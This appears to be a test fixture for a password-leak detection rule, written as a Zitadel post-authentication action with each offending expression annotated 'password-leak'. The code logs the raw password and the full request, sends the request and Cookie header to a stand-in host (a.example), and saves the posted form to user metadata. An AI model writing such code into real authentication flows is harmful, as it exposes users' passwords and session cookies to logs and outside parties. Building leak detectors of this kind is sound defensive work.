// @zitadel internal-authentication/post-authentication
const logger = require('zitadel/log');
const http = require('zitadel/http');
function action(ctx, api) {
  const { form, headers } = ctx.v1.httpRequest;
  const password = ctx.v1.httpRequest.form.password[0];
  logger.log(JSON.stringify(ctx.v1.httpRequest));
  //                        ^^^^^^^^^^^^^^^^^^ password-leak
  logger.log('%j', ctx);
  //               ^^^ password-leak
  logger.log(form.password);
  //         ^^^^^^^^^^^^^ password-leak
  logger.log(`password ${password}`);
  //                     ^^^^^^^^ password-leak
  http.fetch('https://a.example', { body: { request: ctx.v1.httpRequest, cookie: headers['Cookie'] } });
  //                                                 ^^^^^^^^^^^^^^^^^^ password-leak
  //                                                                             ^^^^^^^^^^^^^^^^^ password-leak
  api.v1.user.appendMetadata('form', ctx.v1.httpRequest.postForm);
  //                                 ^^^^^^^^^^^^^^^^^^^^^^^^^^^ password-leak
}
